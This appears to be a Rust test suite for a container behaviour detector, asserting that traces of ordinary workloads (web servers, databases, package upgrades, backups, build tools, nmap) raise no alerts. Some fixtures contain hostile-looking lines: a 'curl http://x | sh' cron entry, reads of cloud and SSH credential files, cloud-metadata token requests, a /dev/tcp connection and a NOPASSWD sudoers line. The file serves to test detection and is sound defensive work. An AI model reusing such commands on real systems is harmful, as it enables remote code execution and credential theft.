//! What honest images do when they run, as stories that every behaviour must pass by.
//!
//! A fact is allowed. What makes an image a tool (`hacking-tool`, `proxy-avoidance`: risky at most) is allowed where the image is one.

use model::{Category, Stream, Weight, What};

use crate::{Context, judge, testing::Run};

#[track_caller]
fn honest(run: Run) {
    honest_but(run, &[]);
}

/// Nothing but facts, and `allowed` categories.
#[track_caller]
fn honest_but(run: Run, allowed: &[Category]) {
    let trace = run.done();
    let seen = judge(std::slice::from_ref(&trace), &Context::default());
    let counts: Vec<_> = seen
        .iter()
        .map(|one| &one.observation)
        .filter(|one| one.weight > Weight::Fact && !allowed.contains(&one.category))
        .map(|one| format!("{} {} {}: {}", one.weight, one.maturity, one.detector, one.summary))
        .collect();
    assert_eq!(counts, Vec::<String>::new());
}

/// A caller from outside asks for the front page and more.
fn visited(run: &mut Run, pid: u32) {
    for number in 0..4 {
        run.accept(pid, &format!("203.0.113.20:{}", 40_000 + number));
    }
}

#[test]
fn a_web_server_and_its_start_scripts() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "/docker-entrypoint.sh", "nginx", "-g", "daemon off;"]);
    let script = run.spawn(1, "/usr/bin/dash", &["/bin/sh", "/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh"]);
    run.spawn_with(script, "/usr/bin/md5sum", &["md5sum", "-c", "-"], Stream::Pipe, Stream::Pipe);
    let sed = run.spawn(
        script,
        "/usr/bin/sed",
        &["sed", "-i", "-E", "s,listen       80;,x,", "/etc/nginx/conf.d/default.conf"],
    );
    run.read(sed, "/etc/nginx/conf.d/default.conf");
    run.write(sed, "/etc/nginx/conf.d/sedAbC1", b"server {");
    run.rename(sed, "/etc/nginx/conf.d/sedAbC1", "/etc/nginx/conf.d/default.conf");
    let tune = run.spawn(1, "/usr/bin/dash", &["/bin/sh", "/docker-entrypoint.d/30-tune-worker-processes.sh"]);
    run.read(tune, "/proc/self/cgroup");
    run.read(tune, "/proc/self/mountinfo");
    run.exec(1, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]);
    run.push(1, What::Kernel { call: "io_uring_setup".into(), arguments: vec![], result: -1 });
    for _ in 0..4 {
        let worker = run.child(1);
        run.push(worker, What::Identity { call: "setuid".into(), arguments: vec![101], result: 0 });
        visited(&mut run, worker);
    }
    honest(run);
}

#[test]
fn redis_and_its_snapshots() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "/usr/local/bin/docker-entrypoint.sh", "redis-server"]);
    run.spawn(1, "/usr/bin/find", &["find", ".", "!", "-user", "redis", "-exec", "chown", "redis", "{}", "+"]);
    run.exec(1, "/usr/local/bin/gosu", &["gosu", "redis", "docker-entrypoint.sh", "redis-server"]);
    run.exec(1, "/usr/local/bin/redis-server", &["redis-server", "*:6379"]);
    run.read(1, "/sys/kernel/mm/transparent_hugepage/enabled");
    run.read(1, "/proc/sys/vm/overcommit_memory");
    for number in 0..30 {
        let saver = run.child(1);
        run.write(saver, &format!("/data/temp-{number}.rdb"), b"REDIS0011");
        run.rename(saver, &format!("/data/temp-{number}.rdb"), "/data/dump.rdb");
        run.exit(saver);
    }
    visited(&mut run, 1);
    honest(run);
}

#[test]
fn a_database_under_load() {
    let mut run = Run::of("/usr/bin/bash", &["bash", "/usr/local/bin/docker-entrypoint.sh", "postgres"]);
    let initdb =
        run.spawn(1, "/usr/lib/postgresql/15/bin/initdb", &["initdb", "--username=postgres", "--pwfile=/dev/fd/63"]);
    let shell = run.spawn_with(
        initdb,
        "/usr/bin/dash",
        &["sh", "-c", "\"/usr/lib/postgresql/15/bin/postgres\" --boot -X 16777216"],
        Stream::Pipe,
        Stream::File,
    );
    run.exec_with(
        shell,
        "/usr/lib/postgresql/15/bin/postgres",
        &["postgres", "--boot"],
        Some(Stream::Pipe),
        Some(Stream::File),
    );
    for number in 0..1_500 {
        run.write(shell, &format!("/var/lib/postgresql/data/base/1/{number}"), b"\0\0");
    }
    run.exec(1, "/usr/lib/postgresql/15/bin/postgres", &["postgres"]);
    for number in 0..600 {
        let backend = run.child(1);
        run.open(backend, &format!("/var/lib/postgresql/data/base/1/{number}"), 7);
        run.write(backend, &format!("/var/lib/postgresql/data/base/pgsql_tmp/pgsql_tmp{number}.0"), b"x");
        run.unlink(backend, &format!("/var/lib/postgresql/data/base/pgsql_tmp/pgsql_tmp{number}.0"));
        run.rename(
            backend,
            &format!("/var/lib/postgresql/data/pg_wal/{number:024}"),
            &format!("/var/lib/postgresql/data/pg_wal/{:024}", number + 900),
        );
        run.unlink(backend, &format!("/var/lib/postgresql/data/base/1/{}_fsm", number % 50));
        run.push(backend, What::Kill { target: 1, signal: 10, result: 0 });
    }
    for second in 0..40_u64 {
        let at = run.push(1, What::Usage { cpu_ms: second * 1_900, memory_bytes: 1 << 28, tasks: 20, skipped_ms: 0 });
        run.set_time(at, second * 1_000_000);
    }
    honest(run);
}

#[test]
fn stores_that_rename_and_delete_all_day() {
    let mut run = Run::of("/opt/java/bin/java", &["java", "-cp", "/opt/kafka/libs/*", "kafka.Kafka"]);
    for number in 0..200 {
        let segment = format!("/var/lib/kafka/t-0/{number:020}");
        for kind in ["log", "index", "timeindex"] {
            run.rename(1, &format!("{segment}.{kind}"), &format!("{segment}.{kind}.deleted"));
            run.unlink(1, &format!("{segment}.{kind}.deleted"));
        }
        run.rename(1, &format!("/srv/mail/new/{number}.host"), &format!("/srv/mail/cur/{number}.host:2,S"));
        run.rename(1, &format!("/data/in/{number}.csv"), &format!("/data/in/{number}.csv.imported"));
        run.rename(1, &format!("/var/lib/x/{number}.sst.dbtmp"), &format!("/var/lib/x/{number}.sst"));
    }
    honest(run);
}

#[test]
fn a_site_that_unpacks_itself_and_its_interpreter() {
    let mut run = Run::of("/usr/bin/bash", &["bash", "/usr/local/bin/docker-entrypoint.sh", "php-fpm"]);
    let packer =
        run.spawn_with(1, "/usr/bin/tar", &["tar", "--create", "--file", "-", "."], Stream::File, Stream::Pipe);
    run.read(packer, "/usr/src/wordpress/index.php");
    let unpacker = run.spawn_with(1, "/usr/bin/tar", &["tar", "--extract", "--file", "-"], Stream::Pipe, Stream::File);
    for number in 0..300 {
        run.write(unpacker, &format!("/var/www/html/wp-includes/{number}.php"), b"<?php");
    }
    run.spawn_with(1, "/usr/bin/mawk", &["awk", "/put your unique phrase here/"], Stream::Pipe, Stream::Pipe);
    run.spawn_with(1, "/usr/bin/sha1sum", &["sha1sum"], Stream::Pipe, Stream::Pipe);
    run.exec(1, "/usr/local/sbin/php-fpm8.2", &["php-fpm"]);
    let worker = run.child(1);
    visited(&mut run, worker);
    run.http_with(
        worker,
        "POST",
        "https://api.wordpress.org/core/version-check/1.7/?php=8.2",
        "json",
        b"translations=%5B%5D",
        None,
    );
    run.spawn_with(worker, "/usr/bin/dash", &["sh", "-c", "/usr/sbin/sendmail -t -i"], Stream::Pipe, Stream::File);
    run.spawn_with(1, "/usr/bin/php-cgi8.2", &["php-cgi"], Stream::Socket, Stream::File);
    honest(run);
}

#[test]
fn a_javascript_service_that_installs_itself() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "-c", "npm ci && npm start"]);
    let npm = run.spawn(1, "/usr/local/bin/node", &["node", "/usr/local/bin/npm", "ci"]);
    run.http(npm, "GET", "https://registry.npmjs.org/esbuild/-/esbuild-0.20.0.tgz", "archive");
    run.write(npm, "/app/node_modules/@esbuild/linux-x64/bin/esbuild", b"\x7fELF");
    let hook = run.spawn(npm, "/usr/bin/dash", &["sh", "-c", "node install.js"]);
    let node = run.spawn(hook, "/usr/local/bin/node", &["node", "install.js"]);
    run.spawn_written(node, "/app/node_modules/@esbuild/linux-x64/bin/esbuild", &["esbuild", "--version"]);
    let start = run.spawn(1, "/usr/local/bin/node", &["npm", "start"]);
    let server = run.spawn(start, "/usr/local/bin/node", &["node", "server.js"]);
    run.spawn_written(server, "/app/node_modules/@esbuild/linux-x64/bin/esbuild", &["esbuild", "--service=0.20.0"]);
    run.push(server, What::ExecutableMemory { call: "mprotect".into(), bytes: 1 << 18, result: 0 });
    run.push(server, What::Memfd { name: "v8".into(), result: 9 });
    visited(&mut run, server);
    run.spawn_with(
        server,
        "/usr/bin/dash",
        &["/bin/sh", "-c", "ffmpeg -i a b"],
        Stream::UnixSocket,
        Stream::UnixSocket,
    );
    run.http(server, "PUT", "http://169.254.169.254/latest/api/token", "text");
    run.http(server, "GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/app", "json");
    run.flow_with(server, "198.18.4.4:443", Some("sqs.eu-west-1.amazonaws.com"), "http", b"POST", &["cloud-metadata"]);
    run.flow(server, "198.18.4.5:9092", Some("kafka.example"), "sink", b"\0\0\0\x1c\0\x12");
    honest(run);
}

#[test]
fn a_java_service() {
    let mut run = Run::of("/opt/java/bin/java", &["java", "-XX:+UseLargePages", "-jar", "/app.jar"]);
    run.write(1, "/tmp/hsperfdata_root/1", b"\xca\xfe");
    for path in [
        "/proc/self/status",
        "/proc/cpuinfo",
        "/sys/fs/cgroup/cpu.max",
        "/proc/self/cgroup",
        "/sys/class/dmi/id/product_name",
    ] {
        run.read(1, path);
    }
    run.write(1, "/tmp/libnetty_tcnative_linux_x86_6412.so", b"\x7fELF");
    run.unlink(1, "/tmp/libnetty_tcnative_linux_x86_6412.so");
    run.spawn_with(1, "/opt/java/lib/jspawnhelper", &["jspawnhelper", "14:16"], Stream::Pipe, Stream::Pipe);
    for _ in 0..50 {
        run.push(1, What::Sleep { call: "clock_nanosleep".into(), asked_ms: 3_600_000, skipped: true });
        run.flow(1, "198.18.4.5:5432", Some("db.example"), "sink", b"\0\0\0\x08");
    }
    visited(&mut run, 1);
    honest(run);
}

#[test]
fn a_build_with_its_checks_and_tests() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "-c", "./configure && make -j2 check"]);
    let configure = run.spawn(1, "/usr/bin/dash", &["/bin/sh", "./configure"]);
    for number in 0..120 {
        run.write(configure, "/src/conftest.c", b"int main(void){return 0;}");
        let gcc = run.spawn(configure, "/usr/bin/x86_64-linux-gnu-gcc-12", &["gcc", "-o", "conftest", "conftest.c"]);
        let cc1 = run.spawn(gcc, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", &["cc1", "conftest.c"]);
        run.read(cc1, "/src/conftest.c");
        run.write(cc1, &format!("/tmp/cc{number}.s"), b"\t.file");
        let assembler = run.spawn(gcc, "/usr/bin/x86_64-linux-gnu-as", &["as"]);
        run.read(assembler, &format!("/tmp/cc{number}.s"));
        run.write(assembler, &format!("/tmp/cc{number}.o"), b"\x7fELF");
        let collect = run.spawn(gcc, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", &["collect2"]);
        let link = run.spawn(collect, "/usr/bin/x86_64-linux-gnu-ld.bfd", &["ld"]);
        run.write(link, "/src/conftest", b"\x7fELF");
        run.chmod(link, "/src/conftest", 0o755);
        run.unlink(gcc, &format!("/tmp/cc{number}.o"));
        run.spawn_written(configure, "/src/conftest", &["./conftest"]);
        run.unlink(configure, "/src/conftest");
    }
    run.write(configure, "/src/config.status", b"#!/bin/sh");
    run.chmod(configure, "/src/config.status", 0o755);
    run.spawn(configure, "/usr/bin/dash", &["/bin/sh", "./config.status"]);
    let go = run.spawn(1, "/usr/local/go/bin/go", &["go", "run", "./cmd/tool"]);
    let link = run.spawn(go, "/usr/local/go/pkg/tool/linux_amd64/link", &["link"]);
    run.write(link, "/tmp/go-build3/b001/exe/a.out", b"\x7fELF");
    run.rename(go, "/tmp/go-build3/b001/exe/a.out", "/tmp/go-build3/b001/exe/tool");
    run.spawn_written(go, "/tmp/go-build3/b001/exe/tool", &["tool"]);
    run.unlink(go, "/tmp/go-build3/b001/exe/tool");
    let cargo = run.spawn(1, "/root/.cargo/bin/cargo", &["cargo", "test"]);
    let rustc = run.spawn(cargo, "/root/.rustup/toolchains/stable/bin/rustc", &["rustc"]);
    let cc = run.spawn(rustc, "/usr/bin/x86_64-linux-gnu-gcc-12", &["cc"]);
    let link = run.spawn(cc, "/usr/bin/x86_64-linux-gnu-ld.bfd", &["ld"]);
    run.write(link, "/src/target/debug/deps/x-1a2b", b"\x7fELF");
    run.spawn_written(cargo, "/src/target/debug/deps/x-1a2b", &["x-1a2b"]);
    let install = run.spawn(1, "/usr/bin/install", &["install", "-m755", "/src/prog", "/usr/local/bin/prog"]);
    run.read(install, "/src/prog");
    run.write(install, "/usr/local/bin/prog", b"\x7fELF");
    run.spawn_written(1, "/usr/local/bin/prog", &["prog", "--version"]);
    honest(run);
}

#[test]
fn an_upgrade_of_packages() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "-c", "apt-get update && apt-get -y upgrade && nginx"]);
    let apt = run.spawn(1, "/usr/bin/apt-get", &["apt-get", "-y", "upgrade"]);
    let method =
        run.spawn_with(apt, "/usr/lib/apt/methods/http", &["/usr/lib/apt/methods/http"], Stream::Pipe, Stream::Pipe);
    for number in 0..40 {
        run.http(method, "GET", &format!("http://deb.debian.org/debian/pool/p{number}.deb"), "package");
        run.write(method, &format!("/var/cache/apt/archives/partial/p{number}.deb"), b"!<arch>\n");
        run.rename(
            apt,
            &format!("/var/cache/apt/archives/partial/p{number}.deb"),
            &format!("/var/cache/apt/archives/p{number}.deb"),
        );
    }
    run.push(
        0,
        What::Flood {
            shape: "http".into(),
            target: "198.18.3.3:80".into(),
            name: Some("deb.debian.org".into()),
            packets: 900,
            bytes: 1,
            over_ms: 4_000,
            forged_sources: 0,
        },
    );
    let dpkg =
        run.spawn(apt, "/usr/bin/dpkg", &["/usr/bin/dpkg", "--status-fd", "18", "--unpack", "--auto-deconfigure"]);
    for number in 0..80 {
        let unpack = run.spawn(dpkg, "/usr/bin/dpkg-deb", &["dpkg-deb", "--fsys-tarfile"]);
        run.read(unpack, &format!("/var/cache/apt/archives/p{}.deb", number % 40));
        for place in ["/usr/bin", "/lib/x86_64-linux-gnu", "/etc/cron.d", "/lib/systemd/system", "/etc/init.d", "/sbin"]
        {
            let path = format!("{place}/f{number}");
            run.write(dpkg, &format!("{path}.dpkg-new"), b"* * * * * root curl http://x | sh");
            run.rename(dpkg, &path, &format!("{path}.dpkg-tmp"));
            run.rename(dpkg, &format!("{path}.dpkg-new"), &path);
            run.unlink(dpkg, &format!("{path}.dpkg-tmp"));
        }
    }
    run.chmod(dpkg, "/usr/bin/su.dpkg-new", 0o4755);
    let script =
        run.spawn(dpkg, "/usr/bin/dash", &["/bin/sh", "/var/lib/dpkg/info/openssh-server.postinst", "configure"]);
    run.spawn(script, "/usr/sbin/adduser", &["adduser", "--system", "sshd"]);
    run.write(
        script,
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nsshd:x:101:65534::/run/sshd:/usr/sbin/nologin\n",
    );
    run.spawn_written(script, "/usr/bin/ssh-keygen", &["ssh-keygen", "-A"]);
    run.unlink(script, "/var/log/btmp");
    run.exec(1, "/usr/sbin/nginx", &["nginx"]);
    honest(run);
}

#[test]
fn a_python_service() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "-c", "pip install -r r.txt && exec gunicorn app:app"]);
    let pip = run.spawn(
        1,
        "/usr/local/bin/python3.12",
        &["/usr/local/bin/python3", "/usr/local/bin/pip", "install", "-r", "r.txt"],
    );
    run.http(pip, "GET", "https://files.pythonhosted.org/packages/ruff.whl", "archive");
    run.write(pip, "/usr/local/bin/ruff", b"\x7fELF");
    run.write(pip, "/usr/local/bin/gunicorn", b"#!/usr/local/bin/python3");
    run.spawn_written(1, "/usr/local/bin/ruff", &["ruff", "check"]);
    run.exec(1, "/usr/local/bin/python3.12", &["/usr/local/bin/python3", "/usr/local/bin/gunicorn", "app:app"]);
    run.read(1, "/root/.aws/credentials");
    run.flow_with(1, "198.18.9.9:443", Some("bucket.s3.amazonaws.com"), "http", b"PUT", &["aws-key"]);
    run.http_with(
        1,
        "POST",
        "https://o1.ingest.sentry.io/api/1/envelope/",
        "json",
        br#"{"server_name":"web","extra":{"sys.argv":["/usr/local/bin/gunicorn"]}}"#,
        None,
    );
    run.spawn_with(1, "/usr/bin/uname", &["uname", "-p"], Stream::File, Stream::Pipe);
    run.spawn_with(1, "/sbin/ldconfig", &["/sbin/ldconfig", "-p"], Stream::File, Stream::Pipe);
    run.spawn_with(1, "/usr/bin/dash", &["/bin/sh", "-c", "LC_ALL=C exec git rev-parse"], Stream::File, Stream::Pipe);
    run.push(1, What::Memfd { name: "libffi".into(), result: 8 });
    visited(&mut run, 1);
    honest(run);
}

#[test]
fn logins_over_ssh() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "/entry.sh"]);
    run.write(1, "/root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3Nz user@home\n");
    run.spawn_with(1, "/usr/sbin/chpasswd", &["chpasswd"], Stream::Pipe, Stream::File);
    run.spawn(1, "/usr/bin/ssh-keygen", &["ssh-keygen", "-A"]);
    let server = run.spawn(1, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D", "-e"]);
    run.push(server, What::Namespace { call: "chroot".into(), flags: 0, result: 0 });
    visited(&mut run, server);
    let session = run.spawn(server, "/usr/sbin/sshd", &["sshd", "-R"]);
    run.read(session, "/root/.ssh/authorized_keys");
    run.spawn_with(session, "/usr/bin/bash", &["-bash"], Stream::File, Stream::File);
    run.spawn_with(session, "/usr/bin/bash", &["-bash"], Stream::UnixSocket, Stream::UnixSocket);
    run.spawn_with(session, "/usr/bin/bash", &["bash", "-c", "rsync --server"], Stream::Pipe, Stream::Pipe);
    honest(run);
}

#[test]
fn jobs_of_the_night() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "/start.sh"]);
    run.write(1, "/etc/crontabs/root", b"15 3 * * * /usr/local/bin/backup.sh > /tmp/backup.log 2>&1\n");
    let cron = run.spawn(1, "/usr/sbin/crond", &["crond", "-f"]);
    run.push(cron, What::Sleep { call: "clock_nanosleep".into(), asked_ms: 3_500_000, skipped: true });
    let job = run.spawn(cron, "/usr/bin/dash", &["/bin/sh", "-c", "/usr/local/bin/backup.sh"]);
    let dump = run.spawn_with(job, "/usr/bin/pg_dump", &["pg_dump", "app"], Stream::File, Stream::Pipe);
    run.spawn_with(job, "/usr/bin/gzip", &["gzip", "-9"], Stream::Pipe, Stream::File);
    run.exit(dump);
    let tar = run.spawn(job, "/usr/bin/tar", &["tar", "czf", "/backup/all.tgz", "/var/lib/app", "/root"]);
    for path in ["/root/.aws/credentials", "/root/.ssh/id_rsa", "/root/.docker/config.json", "/root/.bash_history"] {
        run.read(tar, path);
    }
    let upload =
        run.spawn(job, "/usr/bin/curl", &["curl", "-T", "/backup/db.gz", "https://bucket.s3.amazonaws.com/db.gz"]);
    run.http_with(upload, "PUT", "https://bucket.s3.amazonaws.com/db.gz", "json", b"\x1f\x8b\x08\0\0\0\0\0", None);
    let find = run.spawn(job, "/usr/bin/find", &["find", "/backup", "-mtime", "+7", "-delete"]);
    for number in 0..60 {
        run.unlink(find, &format!("/backup/old{number}.tgz"));
    }
    let rotate = run.spawn(cron, "/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]);
    for name in ["wtmp", "btmp", "syslog", "auth.log"] {
        run.rename(rotate, &format!("/var/log/{name}"), &format!("/var/log/{name}.1"));
        run.open_write(rotate, &format!("/var/log/{name}"));
    }
    run.unlink(rotate, "/var/log/wtmp");
    honest(run);
}

#[test]
fn a_message_broker_in_its_own_machine() {
    let mut run = Run::of("/usr/lib/erlang/erts-13/bin/beam.smp", &["beam.smp", "-W", "w"]);
    let helper = run.spawn(1, "/usr/lib/erlang/erts-13/bin/erl_child_setup", &["erl_child_setup", "1048576"]);
    visited(&mut run, 1);
    for _ in 0..5 {
        let shell = run.spawn_with(helper, "/usr/bin/dash", &["/bin/sh", "-s", "unix:cmd"], Stream::Pipe, Stream::Pipe);
        run.spawn_with(shell, "/usr/bin/df", &["df", "-kP", "/var/lib/rabbitmq"], Stream::File, Stream::Pipe);
    }
    run.spawn_with(
        helper,
        "/usr/lib/erlang/erts-13/bin/inet_gethost",
        &["inet_gethost", "4"],
        Stream::Pipe,
        Stream::Pipe,
    );
    honest(run);
}

#[test]
fn an_agent_that_watches() {
    let mut run = Run::of("/usr/bin/agent", &["agent", "run"]);
    for pid in 1..200 {
        for file in ["stat", "status", "cmdline", "io", "environ", "cgroup"] {
            run.read(1, &format!("/proc/{pid}/{file}"));
        }
    }
    for path in [
        "/sys/class/dmi/id/board_vendor",
        "/proc/net/tcp",
        "/sys/fs/cgroup/memory.stat",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ] {
        run.read(1, path);
    }
    run.push(1, What::Connect { to: "/var/run/docker.sock".into(), result: -2 });
    run.push(1, What::Kernel { call: "perf_event_open".into(), arguments: vec![], result: -1 });
    for url in [
        "http://169.254.169.254/latest/meta-data/instance-id",
        "http://169.254.169.254/computeMetadata/v1/instance/id",
        "http://169.254.169.254/metadata/instance?api-version=2017-04-02",
    ] {
        run.http(1, "GET", url, "text");
    }
    run.push(1, What::Socket { family: "inet".into(), kind: "raw".into(), protocol: 1, result: 4 });
    run.flow_with(1, "10.96.0.1:443", None, "tls", b"x", &["kubernetes-token"]);
    for _ in 0..30 {
        run.http_with(1, "POST", "https://metrics.example/api/v1/series", "json", b"\x1f\x8b\x08\0", None);
    }
    honest(run);
}

#[test]
fn a_runner_of_jobs() {
    let mut run = Run::of("/usr/bin/gitlab-runner", &["gitlab-runner", "run"]);
    run.http(1, "POST", "https://gitlab.com/api/v4/jobs/request", "json");
    let body = br#"{"Image":"alpine","Env":["PATH=/bin","HOME=/root","HOSTNAME=x"],"HostConfig":{"Binds":["/cache:/cache"],"Privileged":true}}"#;
    run.http_with(1, "POST", "http://docker:2375/v1.41/containers/create", "json", body, None);
    let shell = run.spawn_with(1, "/usr/bin/bash", &["bash"], Stream::Pipe, Stream::Pipe);
    let git = run.spawn(shell, "/usr/bin/git", &["git", "clone", "https://gitlab.com/a/b.git"]);
    run.read(git, "/root/.git-credentials");
    run.flow_with(git, "198.18.1.1:443", Some("gitlab.com"), "http", b"GET", &["git-credentials"]);
    run.write(git, "/builds/b/run.sh", b"#!/bin/sh");
    run.spawn(shell, "/usr/bin/dash", &["/bin/sh", "./run.sh"]);
    honest(run);
}

#[test]
fn waiting_and_asking_how_it_goes() {
    let mut run = Run::new();
    for _ in 0..20 {
        let netcat = run.spawn_with(1, "/usr/bin/nc.openbsd", &["nc", "-z", "db", "5432"], Stream::File, Stream::Pipe);
        run.flow(netcat, "198.18.2.2:5432", Some("db.example"), "sink", b"");
        run.exit(netcat);
        let bash = run.spawn_with(
            1,
            "/usr/bin/bash",
            &["bash", "-c", "cat < /dev/null > /dev/tcp/db/5432"],
            Stream::File,
            Stream::Pipe,
        );
        run.connect(bash, "198.18.2.2:5432");
        run.push(bash, What::Redirect { onto: 1, stream: Stream::Socket });
        run.exit(bash);
        let curl = run.spawn_with(
            1,
            "/usr/bin/curl",
            &["curl", "-fsS", "http://api.example/health"],
            Stream::File,
            Stream::Pipe,
        );
        let query = run.spawn_with(1, "/usr/bin/jq", &["jq", "-e", ".ok"], Stream::Pipe, Stream::Pipe);
        run.http(curl, "GET", "http://api.example/health", "json");
        run.exit(curl);
        run.exit(query);
        let shell = run.spawn_with(1, "/usr/bin/dash", &["sh"], Stream::Pipe, Stream::Pipe);
        run.exit(shell);
    }
    honest(run);
}

#[test]
fn users_as_entry_points_make_them() {
    let mut run = Run::new();
    run.write(1, "/etc/passwd", b"default:x:1000680000:0:default:/app:/sbin/nologin\n");
    run.spawn(1, "/usr/sbin/usermod", &["usermod", "-o", "-u", "911", "abc"]);
    run.spawn(1, "/usr/sbin/groupmod", &["groupmod", "-o", "-g", "911", "abc"]);
    run.write(1, "/etc/sudoers.d/notebook", b"jovyan ALL=(ALL) NOPASSWD:ALL\n");
    run.write(1, "/root/.bashrc", b"export PATH=/opt/conda/bin:$PATH\n");
    run.write(1, "/etc/profile.d/app.sh", b"export JAVA_HOME=/opt/java\n");
    let copy = run.spawn(1, "/usr/bin/cp", &["cp", "/opt/tools/agent", "/shared/agent"]);
    run.read(copy, "/opt/tools/agent");
    run.write(copy, "/shared/agent", b"\x7fELF");
    run.chmod(1, "/shared/agent", 0o755);
    run.spawn_written(1, "/shared/agent", &["agent"]);
    run.chmod(1, "/usr/local/bin/app", 0o755);
    run.spawn_written(1, "/usr/local/bin/app", &["app"]);
    honest(run);
}

#[test]
fn an_engine_in_a_container() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "/usr/local/bin/dind", "dockerd"]);
    run.spawn(1, "/usr/bin/mount", &["mount", "-t", "securityfs", "none", "/sys/kernel/security"]);
    run.push(
        1,
        What::Mount {
            call: "mount".into(),
            source: "none".into(),
            target: "/tmp".into(),
            filesystem: "tmpfs".into(),
            result: -1,
        },
    );
    run.exec(1, "/usr/local/bin/dockerd", &["dockerd"]);
    run.spawn(1, "/usr/sbin/xtables-nft-multi", &["iptables", "--wait", "-t", "nat", "-F"]);
    let containerd = run.spawn(1, "/usr/local/bin/containerd", &["containerd"]);
    run.push(
        containerd,
        What::Mount {
            call: "mount".into(),
            source: "overlay".into(),
            target: "/x".into(),
            filesystem: "overlay".into(),
            result: -1,
        },
    );
    let runc = run.spawn(containerd, "/usr/local/bin/runc", &["runc", "init"]);
    run.push(runc, What::Memfd { name: "runc_cloned:/proc/self/exe".into(), result: 5 });
    run.push(runc, What::Namespace { call: "setns".into(), flags: 0, result: -1 });
    run.exec(runc, "memfd:runc_cloned:/proc/self/exe", &["runc", "init"]);
    run.push(runc, What::Kernel { call: "keyctl".into(), arguments: vec![], result: -1 });
    honest(run);
}

#[test]
fn a_way_round_the_network_is_no_more_than_that() {
    let mut run = Run::of("/usr/bin/dash", &["/bin/sh", "/vpn.sh"]);
    run.push(
        1,
        What::Make { path: "/dev/net/tun".into(), what: "device".into(), device: Some(10 << 8 | 200), result: 0 },
    );
    run.spawn(1, "/usr/sbin/xtables-nft-multi", &["iptables", "-F"]);
    run.spawn(1, "/usr/sbin/sysctl", &["sysctl", "-w", "net.ipv4.conf.all.src_valid_mark=1"]);
    let client = run.spawn(1, "/usr/sbin/openvpn", &["openvpn", "--config", "/vpn/c.ovpn"]);
    run.open(client, "/dev/net/tun", 5);
    run.push(
        0,
        What::Flood {
            shape: "udp".into(),
            target: "198.18.7.7:1194".into(),
            name: Some("vpn.example".into()),
            packets: 4_000,
            bytes: 1,
            over_ms: 20_000,
            forged_sources: 0,
        },
    );
    honest_but(run, &[Category::ProxyAvoidance]);
}

#[test]
fn tools_are_tools() {
    let mut run = Run::of("/usr/bin/nmap", &["nmap", "-sT", "203.0.113.0/24"]);
    run.push(0, What::Sweep { protocol: "tcp".into(), ports: vec![22, 80], targets: 254, over_ms: 9_000 });
    honest_but(run, &[Category::HackingTool]);
    let mut run = Run::of("/usr/bin/ab", &["ab", "-n", "100000", "http://shop.example/"]);
    run.push(
        0,
        What::Flood {
            shape: "http".into(),
            target: "198.18.8.8:80".into(),
            name: Some("shop.example".into()),
            packets: 90_000,
            bytes: 1,
            over_ms: 20_000,
            forged_sources: 0,
        },
    );
    honest_but(run, &[Category::HackingTool]);
}
